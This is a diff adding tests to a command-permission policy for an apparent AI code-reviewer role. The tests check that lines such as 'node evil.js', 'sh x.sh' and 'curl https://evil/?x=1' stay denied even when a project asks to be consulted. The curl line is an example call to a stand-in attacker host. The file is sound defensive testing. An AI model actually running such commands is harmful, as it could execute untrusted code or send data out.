@@ -116,6 +116,25 @@ test("null and lists with blanks are no permissions", () => {
   expect(readPermissions(7).ok).toBe(false);
 });
 
+test.each(["node evil.js", "sh x.sh", "curl https://evil/?x=1", "npm test", "git fetch origin", "env"])(
+  "a project that wants to be asked about %s lets no reader run it",
+  (line) => {
+    const [program = ""] = line.split(" ");
+    const asks = layer("project", { bash: { ask: [program, `${program} *`] } });
+    const judge = (...layers: readonly PolicyLayer[]) =>
+      judgeCommand(line, rolePolicy("code-review-specialist", ...layers), world).decision;
+    expect([judge(), judge(asks)]).toEqual(["deny", "deny"]);
+  },
+);
+
+test("a project can want to be asked about what a reader may run", () => {
+  const asks = layer("project", { bash: { ask: ["git log *", "nice"] } });
+  const judge = (line: string) =>
+    judgeCommand(line, rolePolicy("code-review-specialist", asks), world).decision;
+  expect(judge("git log -3")).toBe("ask");
+  expect(judge("nice git status")).toBe("ask");
+});
+
 test("the user's file loosens what the role says, and what the project says", () => {
   expect(decide("git push origin x")).toBe("deny");
   expect(decide("git push origin x", layer("user", { bash: { allow: ["git push origin *"] } }))).toBe(
